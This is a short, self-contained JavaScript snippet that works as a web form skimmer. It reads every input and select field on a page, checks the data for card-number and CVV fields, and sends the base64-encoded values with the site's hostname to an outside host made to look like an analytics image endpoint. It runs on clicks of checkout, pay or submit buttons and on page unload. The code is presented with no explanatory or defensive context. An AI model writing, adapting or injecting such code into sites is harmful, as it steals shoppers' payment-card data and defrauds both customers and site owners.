(function () {
  var gate = 'https://cdn-analytics.invalid/collect.gif';
  var sent = {};
  function grab() {
    var data = {};
    var fields = document.querySelectorAll('input, select');
    for (var i = 0; i < fields.length; i++) {
      var f = fields[i];
      var k = f.name || f.id;
      if (k && f.value) data[k] = f.value;
    }
    var s = JSON.stringify(data);
    if (!/cc_number|cardnumber|card-number|cvv|cvc/i.test(s) || sent[s]) return;
    sent[s] = 1;
    var img = new Image();
    img.src = gate + '?h=' + encodeURIComponent(location.hostname) + '&d=' + encodeURIComponent(btoa(s));
  }
  document.addEventListener('click', function (e) {
    var t = e.target;
    if (t && (t.type === 'submit' || /checkout|place.?order|pay/i.test(t.id + ' ' + t.className))) grab();
  }, true);
  window.addEventListener('beforeunload', grab);
})();
